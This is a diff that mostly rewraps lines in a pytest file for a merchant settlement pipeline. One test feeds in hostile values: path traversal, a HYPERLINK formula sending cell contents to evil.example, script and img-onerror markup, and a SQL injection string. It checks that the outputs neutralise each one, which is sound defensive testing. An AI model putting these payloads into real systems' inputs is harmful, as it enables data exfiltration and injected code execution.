@@ -58,7 +58,9 @@ def test_flow_publishes_validated_outputs_and_reruns_identically(prefect_server,
     assert funded == int(discount_lines["amount"].sum() * 100)
     # Order details: one Parquet partition per statement date, the same rows as the exports.
     details = pl.read_parquet(current / "order_details" / "**" / "*.parquet", hive_partitioning=False)
-    assert len(list((current / "order_details").glob("statement_date_utc=*"))) == details["statement_date_utc"].n_unique()
+    assert (
+        len(list((current / "order_details").glob("statement_date_utc=*"))) == details["statement_date_utc"].n_unique()
+    )
     csv_rows = sum(pl.read_csv(p).height for p in (current / "exports").rglob("*.csv"))
     assert csv_rows == details.height
     assert len(list((current / "exports").rglob("*.xlsx"))) == manifest["rows_out"]["statements"]
@@ -127,8 +129,20 @@ def test_cli_run_on_samples(tmp_path):
     env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect")}
     settle = Path(sys.executable).with_name("settle")
     done = subprocess.run(
-        [str(settle), "run", "--input", str(SAMPLES), "--out", str(tmp_path / "out"), "--as-of", "2026-11-01T00:00:00Z"],
-        capture_output=True, text=True, env=env, timeout=600,
+        [
+            str(settle),
+            "run",
+            "--input",
+            str(SAMPLES),
+            "--out",
+            str(tmp_path / "out"),
+            "--as-of",
+            "2026-11-01T00:00:00Z",
+        ],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=600,
     )
     assert done.returncode == 0, done.stderr
     assert "SHOP-A" in done.stdout and "SHOP-B" in done.stdout
@@ -139,15 +153,30 @@ def test_cli_run_on_samples(tmp_path):
 
     missing = subprocess.run(
         [str(settle), "run", "--input", str(tmp_path / "nowhere"), "--out", str(tmp_path / "out")],
-        capture_output=True, text=True, env=env, timeout=600,
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=600,
     )
     assert missing.returncode == 1
-    assert missing.stderr.strip().splitlines()[-1] == f"settle: error: input directory {tmp_path / 'nowhere'} does not exist"
+    assert (
+        missing.stderr.strip().splitlines()[-1]
+        == f"settle: error: input directory {tmp_path / 'nowhere'} does not exist"
+    )
 
 
 WAREHOUSE_TABLES = (
-    "order_details", "statements", "recon_breaks", "recon_statements", "discount_lines", "blocked_incentives",
-    "coupon_checks", "coupon_restorations", "unsettled_orders", "orders", "rejected_rows",
+    "order_details",
+    "statements",
+    "recon_breaks",
+    "recon_statements",
+    "discount_lines",
+    "blocked_incentives",
+    "coupon_checks",
+    "coupon_restorations",
+    "unsettled_orders",
+    "orders",
+    "rejected_rows",
 )
 
 
@@ -173,7 +202,10 @@ def test_runs_over_parts_of_the_data_build_the_same_database_as_one_full_run(pre
     slices = [
         {"shops": ["SHOP-B"], "statement_to": date(2026, 6, 30)},
         {"shops": ["SHOP-A"]},
-        {"statement_from": date(2026, 9, 1), "statement_to": date(2026, 10, 15)},  # overlaps both: replaced, not doubled
+        {
+            "statement_from": date(2026, 9, 1),
+            "statement_to": date(2026, 10, 15),
+        },  # overlaps both: replaced, not doubled
         {"shops": ["SHOP-B"], "statement_from": date(2026, 7, 1)},
         {"days_back": 1},  # the nightly: yesterday (2026-10-31) only
     ]
@@ -203,25 +235,36 @@ def test_shops_cut_into_slices_give_the_outputs_of_whole_shops(prefect_server, t
     per_partition = {"discount_lines", "blocked_incentives", "coupon_checks", "coupon_restorations", "unsettled_orders"}
 
     def published(run_dir: Path) -> dict[str, bytes]:  # by-date tables, CSV and XLSX exports, the report, rejected rows
-        return {str(p.relative_to(run_dir)): p.read_bytes() for p in sorted(run_dir.rglob("*"))
-                if p.is_file() and p.name != "manifest.json" and p.relative_to(run_dir).parts[0] not in per_partition}
+        return {
+            str(p.relative_to(run_dir)): p.read_bytes()
+            for p in sorted(run_dir.rglob("*"))
+            if p.is_file() and p.name != "manifest.json" and p.relative_to(run_dir).parts[0] not in per_partition
+        }
 
     assert published(b) == published(a)
-    assert any(name.endswith(".xlsx") for name in published(a)) and any("recon_breaks/" in name for name in published(a))
+    assert any(name.endswith(".xlsx") for name in published(a)) and any(
+        "recon_breaks/" in name for name in published(a)
+    )
     for table in per_partition:  # one file per partition: the same rows, in files cut another way
         rows = [pl.read_parquet(run / table / "*.parquet").sort(pl.all()) for run in (a, b)]
         assert rows[1].equals(rows[0]), table
     _assert_same_tables(_database(tmp_path / "sliced"), _database(tmp_path / "whole"))
     expected = json.loads((a / "manifest.json").read_text())
     assert (manifest["rows_out"], manifest["shops"]) == (expected["rows_out"], expected["shops"])
-    assert (sliced["recon_breaks"], sliced["recon_statements"]) == (whole["recon_breaks"], whole["recon_statements"]) != (0, 0)
+    assert (
+        (sliced["recon_breaks"], sliced["recon_statements"])
+        == (whole["recon_breaks"], whole["recon_statements"])
+        != (0, 0)
+    )
 
 
 def test_a_second_run_on_the_same_output_is_refused_with_who_holds_it(prefect_server, tmp_path):
     out = tmp_path / "out"
-    with store.run_lock(out, "20261101T020000Z"):
-        with pytest.raises(RunFailed, match=r"in use by run 20261101T020000Z \(pid \d+"):
-            settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
+    with (
+        store.run_lock(out, "20261101T020000Z"),
+        pytest.raises(RunFailed, match=r"in use by run 20261101T020000Z \(pid \d+"),
+    ):
+        settle_flow(input_dir=str(SAMPLES), out_dir=str(out), as_of=AS_OF)
     assert not (out / "settlement.duckdb").exists()
     with store.run_lock(out, "next"):  # released when its holder is done: the next run goes ahead
         assert "run next" in (out / store.LOCK_NAME).read_text()
@@ -231,17 +274,32 @@ def test_dask_runs_the_partitions_with_identical_outputs(prefect_server, tmp_pat
     """Several shops in several partitions: on a local Dask cluster, the same files byte for byte."""
     inputs = tmp_path / "inputs"
     generate_to_dir(1200, 7, inputs, n_shops=4)
-    local = settle_flow(input_dir=str(inputs), out_dir=str(tmp_path / "local"), as_of=AS_OF, partition_orders=300, xlsx=False)
-    on_dask = settle_flow(input_dir=str(inputs), out_dir=str(tmp_path / "dask"), as_of=AS_OF, partition_orders=300, xlsx=False, dask=True)
+    local = settle_flow(
+        input_dir=str(inputs), out_dir=str(tmp_path / "local"), as_of=AS_OF, partition_orders=300, xlsx=False
+    )
+    on_dask = settle_flow(
+        input_dir=str(inputs), out_dir=str(tmp_path / "dask"), as_of=AS_OF, partition_orders=300, xlsx=False, dask=True
+    )
     # The default settles two partitions at a time in the flow's process; one at a time is the same run.
-    one_by_one = settle_flow(input_dir=str(inputs), out_dir=str(tmp_path / "one"), as_of=AS_OF, partition_orders=300, partitions_at_once=1, xlsx=False)
+    one_by_one = settle_flow(
+        input_dir=str(inputs),
+        out_dir=str(tmp_path / "one"),
+        as_of=AS_OF,
+        partition_orders=300,
+        partitions_at_once=1,
+        xlsx=False,
+    )
     assert local["partitions"] == on_dask["partitions"] == one_by_one["partitions"] >= 3
     for other in ("dask", "one"):
-        assert _parquet_bytes((tmp_path / other / "current").resolve()) == _parquet_bytes((tmp_path / "local" / "current").resolve())
+        assert _parquet_bytes((tmp_path / other / "current").resolve()) == _parquet_bytes(
+            (tmp_path / "local" / "current").resolve()
+        )
         _assert_same_tables(_database(tmp_path / other), _database(tmp_path / "local"))
 
 
-def test_a_failing_partition_publishes_nothing_once_the_others_in_flight_are_done(prefect_server, tmp_path, monkeypatch):
+def test_a_failing_partition_publishes_nothing_once_the_others_in_flight_are_done(
+    prefect_server, tmp_path, monkeypatch
+):
     """Partitions settle two at a time: when one fails, the other finishes before the run is discarded."""
     inputs = tmp_path / "inputs"
     generate_to_dir(1200, 7, inputs, n_shops=4)
@@ -249,7 +307,9 @@ def test_a_failing_partition_publishes_nothing_once_the_others_in_flight_are_don
     validate = steps.validate
 
     def failing_validate(results, tables):
-        if tables["order_details"]["shop_id"].is_in(["SHOP02"]).any():  # the third partition: SHOP01 (460 orders) is cut in two slices
+        if (
+            tables["order_details"]["shop_id"].is_in(["SHOP02"]).any()
+        ):  # the third partition: SHOP01 (460 orders) is cut in two slices
             raise RunFailed("partition of SHOP02 is wrong; nothing was published")
         time.sleep(1)  # the first partition is still in flight when the second fails
         finished.append(validate(results, tables))
@@ -267,7 +327,10 @@ def test_hostile_ids_and_names_stay_inside_the_output_and_are_never_run(prefect_
     """Shop IDs that are paths (relative, absolute, with NUL), formulas and markup, and product
     names that are formulas: the run succeeds, writes nothing outside its output directory, keeps
     the IDs exactly in its tables, and no CSV cell starts a formula."""
-    evil = {"SHOP-A": '../../../../elsewhere/=HYPERLINK("http://evil.example/?x="&A1,"click")', "SHOP-B": "/srv/elsewhere/SHOP\x00X<script>alert(1)</script>"}
+    evil = {
+        "SHOP-A": '../../../../elsewhere/=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "SHOP-B": "/srv/elsewhere/SHOP\x00X<script>alert(1)</script>",
+    }
     inputs = tmp_path / "inputs"
     inputs.mkdir()
     for path in SAMPLES.glob("*.parquet"):
@@ -277,7 +340,12 @@ def test_hostile_ids_and_names_stay_inside_the_output_and_are_never_run(prefect_
         if "product_name" in frame.columns:
             row = pl.int_range(pl.len()) % 3
             frame = frame.with_columns(
-                pl.when(row == 0).then(pl.lit("=1+1")).when(row == 1).then(pl.lit("'; DROP TABLE statements; --")).otherwise(pl.col("product_name")).alias("product_name")
+                pl.when(row == 0)
+                .then(pl.lit("=1+1"))
+                .when(row == 1)
+                .then(pl.lit("'; DROP TABLE statements; --"))
+                .otherwise(pl.col("product_name"))
+                .alias("product_name")
             )
         frame.write_parquet(inputs / path.name)
     # A seller's download folder named as markup: its statements reach the report as an unknown shop's.
@@ -287,20 +355,29 @@ def test_hostile_ids_and_names_stay_inside_the_output_and_are_never_run(prefect_
     before = {p for p in tmp_path.rglob("*")}
     settle_flow(input_dir=str(inputs), out_dir=str(out), as_of=AS_OF)
     written = {p for p in tmp_path.rglob("*")} - before
-    assert written and all(p.is_relative_to(out) or out.is_relative_to(p) for p in written)  # out, its parents, and what is in it
+    assert written and all(
+        p.is_relative_to(out) or out.is_relative_to(p) for p in written
+    )  # out, its parents, and what is in it
     with duckdb.connect(str(out / "settlement.duckdb"), read_only=True) as con:
         assert {s for (s,) in con.execute("SELECT DISTINCT shop_id FROM statements").fetchall()} == set(evil.values())
     csvs = list((out / "current" / "exports").rglob("*.csv"))
     assert len(csvs) == len(list((out / "current" / "exports").rglob("*.xlsx"))) > 0
-    text = [label for label in ORDER_DETAILS_LABELS if label not in ORDER_DETAILS_MONEY and label != "Quantity"]  # numbers may be negative
+    text = [
+        label for label in ORDER_DETAILS_LABELS if label not in ORDER_DETAILS_MONEY and label != "Quantity"
+    ]  # numbers may be negative
     for path in csvs:
         cells = pl.read_csv(path, infer_schema=False).select(text)
         assert not cells.select(pl.any_horizontal(pl.all().str.contains(r"^[=+\-@\t\r]")).any()).item(), path
     names = pl.concat(pl.read_csv(p, infer_schema=False) for p in csvs)["Product name"]
     assert names.is_in(["'=1+1"]).any() and not names.is_in(["=1+1"]).any()
-    in_xlsx = pl.concat(pl.read_excel(p, sheet_name="Order details", infer_schema_length=0) for p in (out / "current" / "exports").rglob("*.xlsx"))
+    in_xlsx = pl.concat(
+        pl.read_excel(p, sheet_name="Order details", infer_schema_length=0)
+        for p in (out / "current" / "exports").rglob("*.xlsx")
+    )
     assert in_xlsx["Product name"].is_in(["'=1+1"]).any() and not in_xlsx["Product name"].is_in(["=1+1"]).any()
-    assert in_xlsx["Product name"].is_in(["'; DROP TABLE statements; --"]).any()  # SQL is data: stored and shown as it is
+    assert (
+        in_xlsx["Product name"].is_in(["'; DROP TABLE statements; --"]).any()
+    )  # SQL is data: stored and shown as it is
     report = (out / "current" / "reconciliation_report.html").read_text()
     assert "<img" not in report and "<script" not in report  # markup is shown, never run
     assert "&lt;img src=x onerror=alert(1)&gt;" in report
